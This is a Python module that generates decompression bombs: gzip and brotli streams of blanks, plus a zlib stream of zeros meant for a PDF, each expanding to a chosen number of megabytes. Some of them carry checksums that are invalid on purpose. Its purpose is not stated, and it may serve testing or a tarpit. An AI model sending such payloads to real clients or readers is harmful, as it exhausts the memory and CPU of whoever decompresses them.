"""Makes bodies that grow when they are unpacked, part by part: no bomb is stored, and none is ever held as a whole."""

import zlib
from collections.abc import Iterator

MEGABYTE = 1024 * 1024
GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


def gzip_bomb(megabytes: int, before: bytes = b"") -> Iterator[bytes]:
    """A gzip stream of blanks, behind some words that may be true.

    A part that ends in a full flush knows nothing of what came before, so that one packed megabyte can be sent again
    and again.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    yield GZIP_HEAD + packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    part = packer.compress(b" " * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(megabytes):
        yield part
    yield packer.flush() + bytes(8)


def brotli_bomb(megabytes: int) -> Iterator[bytes]:
    """A brotli stream of blanks."""
    import brotli

    packer = brotli.Compressor(quality=1)
    for _ in range(megabytes):
        yield packer.process(b" " * MEGABYTE) + packer.flush()
    yield packer.finish()


def brotli_packed(body: bytes) -> bytes:
    """A body in brotli."""
    import brotli

    packed: bytes = brotli.compress(body)
    return packed


def deflated_zeros(megabytes: int) -> bytes:
    """Zeros in a zlib stream, as a PDF holds it; its checksum is wrong, which no reader gets to see."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    part = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + part * megabytes + packer.flush() + bytes(4)
